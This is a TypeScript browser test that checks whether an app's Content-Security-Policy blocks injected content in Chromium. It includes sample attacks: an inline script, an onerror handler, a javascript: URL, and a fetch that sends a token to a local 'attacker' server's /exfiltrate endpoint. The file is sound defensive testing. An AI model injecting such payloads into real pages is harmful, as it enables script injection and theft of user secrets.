// The renderer's Content-Security-Policy, enforced by real Chromium: the built page is served with
// the exact headers the app:// handler sends, then an attacker's inline script, inline handler,
// remote fetch, remote image and beacon are injected. Each is blocked, and the other server (a
// port on 127.0.0.1 this test owns) never sees a request.
import { readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { extname, join, normalize } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appResponseHeaders, RENDERER_CSP } from '../../main/core/security/csp';
import { launchChromium } from '../e2e/browser';
import { builtRenderer } from '../e2e/renderer-build';

const TYPES: Record<string, string> = {
  '.html': 'text/html; charset=utf-8',
  '.js': 'text/javascript; charset=utf-8',
  '.css': 'text/css; charset=utf-8',
  '.svg': 'image/svg+xml',
  '.png': 'image/png',
};

let browser: Browser;
let page: Page;
let site: Server;
let attacker: Server;
let siteUrl: string;
let attackerUrl: string;
const attackerHits: string[] = [];

async function listen(server: Server): Promise<string> {
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

beforeAll(async () => {
  const root = await builtRenderer();
  site = createServer(async (req, res) => {
    const path = normalize(new URL(req.url ?? '/', 'http://x').pathname).replace(/^(\.\.[/\\])+/, '');
    const file = join(root, path === '/' ? 'index.html' : path);
    try {
      const body = await readFile(file);
      res.writeHead(200, appResponseHeaders(TYPES[extname(file)] ?? 'application/octet-stream'));
      res.end(body);
    } catch {
      res.writeHead(404, appResponseHeaders('text/plain'));
      res.end('not found');
    }
  });
  attacker = createServer((req, res) => {
    attackerHits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' });
    res.end('leaked');
  });
  siteUrl = await listen(site);
  attackerUrl = await listen(attacker);
  browser = await launchChromium();
  page = await browser.newPage();
  const response = await page.goto(`${siteUrl}/index.html`);
  expect(response?.headers()['content-security-policy']).toBe(RENDERER_CSP);
  await page.evaluate(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      w.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
  });
});

afterAll(async () => {
  await browser?.close();
  await new Promise((r) => site?.close(r));
  await new Promise((r) => attacker?.close(r));
});

const violations = () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);

async function waitForViolation(directive: string): Promise<string[]> {
  for (let i = 0; i < 40; i++) {
    const v = await violations();
    if (v.some((x) => x.startsWith(directive))) return v;
    await page.waitForTimeout(50);
  }
  return violations();
}

describe('the renderer CSP in Chromium', () => {
  it('blocks an injected inline script', async () => {
    const ran = await page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__inlineRan = true';
      document.body.append(s);
      return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
    });
    expect(ran).toBe(false);
    expect(await waitForViolation('script-src')).toEqual(
      expect.arrayContaining([expect.stringMatching(/^script-src(-elem)? inline$/)]),
    );
  });

  it('blocks an inline event handler and a javascript: URL', async () => {
    await page.evaluate(() => {
      const img = document.createElement('img');
      img.setAttribute('src', 'data:image/png;base64,broken');
      img.setAttribute('onerror', 'window.__handlerRan = true');
      document.body.append(img);
      const a = document.createElement('a');
      a.href = 'javascript:window.__jsUrlRan = true';
      document.body.append(a);
      a.click();
    });
    await page.waitForTimeout(200);
    const ran = await page.evaluate(() => {
      const w = window as unknown as { __handlerRan?: boolean; __jsUrlRan?: boolean };
      return Boolean(w.__handlerRan || w.__jsUrlRan);
    });
    expect(ran).toBe(false);
  });

  it('blocks a fetch to another server, and nothing reaches it', async () => {
    const result = await page.evaluate(
      (url) =>
        fetch(`${url}/exfiltrate?token=secret`).then(
          (r) => `answered ${r.status}`,
          (e) => `refused: ${String(e)}`,
        ),
      attackerUrl,
    );
    expect(result).toMatch(/^refused/);
    expect(await waitForViolation('connect-src')).toEqual(
      expect.arrayContaining([`connect-src ${attackerUrl}/exfiltrate?token=secret`]),
    );
  });

  it('blocks remote images, beacons, stylesheets and frames as well', async () => {
    await page.evaluate((url) => {
      const img = new Image();
      img.src = `${url}/pixel.png`;
      navigator.sendBeacon(`${url}/beacon`, 'x');
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = `${url}/style.css`;
      document.head.append(link);
      const frame = document.createElement('iframe');
      frame.src = `${url}/frame`;
      document.body.append(frame);
    }, attackerUrl);
    await waitForViolation('frame-src');
    await page.waitForTimeout(300);
    const v = (await violations()).join('\n');
    expect(v).toContain('img-src');
    expect(v).toContain('style-src');
    expect(attackerHits).toEqual([]);
  });
});
